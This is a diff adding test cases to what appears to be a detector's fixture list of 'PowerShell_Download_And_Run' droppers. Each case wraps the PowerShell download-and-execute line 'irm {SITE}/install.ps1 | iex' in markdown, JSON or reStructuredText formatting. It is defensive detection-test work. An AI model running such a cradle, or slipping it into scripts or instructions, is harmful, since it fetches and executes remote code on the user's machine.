@@ -78,6 +78,21 @@ DROPPERS = [
     ),
     text("PowerShell_Download_And_Run", f"irm {SITE}/install.ps1 | iex", f"irm {SITE}/list.json | Format-Table"),
     text(
+        "PowerShell_Download_And_Run",
+        f"# A note\n```\nirm {SITE}/install.ps1 | iex\n",
+        f"# A note\n```\nirm {SITE}/install.ps1 | iex\n```\n",
+    ),
+    text(
+        "PowerShell_Download_And_Run",
+        f'{{"a": "irm {SITE}/install.ps1 | iex"}}',
+        f'{{"a": "Use it:\\n\\n```\\nirm {SITE}/install.ps1 | iex\\n```\\n"}}',
+    ),
+    text(
+        "PowerShell_Download_And_Run",
+        f"code\n\n  irm {SITE}/install.ps1 | iex",
+        f".. code-block::\n\n  irm {SITE}/install.ps1 | iex",
+    ),
+    text(
         "PowerShell_Download_And_Run", f"{_CRADLE} | Invoke-Expression", PAGE.format(f"{_CRADLE} | Invoke-Expression")
     ),
     text(
